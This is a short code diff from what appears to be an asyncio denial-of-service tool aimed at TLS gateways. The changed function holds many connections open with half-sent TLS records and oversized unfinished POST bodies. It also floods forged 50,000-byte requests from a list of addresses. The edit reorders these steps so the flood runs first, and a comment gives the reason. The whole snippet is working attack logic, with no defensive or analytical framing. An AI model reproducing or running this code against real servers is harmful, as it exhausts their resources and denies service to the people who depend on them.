@@ -383,10 +383,11 @@ def attacks_on_tls(arguments):
     async def everything(attack):
         """What makes a connection largest, beside as many unfinished bodies as fit, and great forged ones."""
         great = [body + b"&x=" + b"a" * (50000 - len(body)) for body in attack.forged[:9]]
+        # The forgers connect first: behind thousands of handshakes they would bring one forgery each.
         await asyncio.gather(
-            attack.hoard(hoarders * 4 // 5, b"", connect=lambda: half_a_record(attack.gateway, FULL)),
-            attack.hoard(hoarders // 5, POST % 60000 + b"a" * 15000),
             attack.flood(arguments.rate * 2, ADDRESSES[:240], great),
+            attack.hoard(hoarders // 5, POST % 60000 + b"a" * 15000),
+            attack.hoard(hoarders * 4 // 5, b"", connect=lambda: half_a_record(attack.gateway, FULL)),
         )
 
     shapes = [
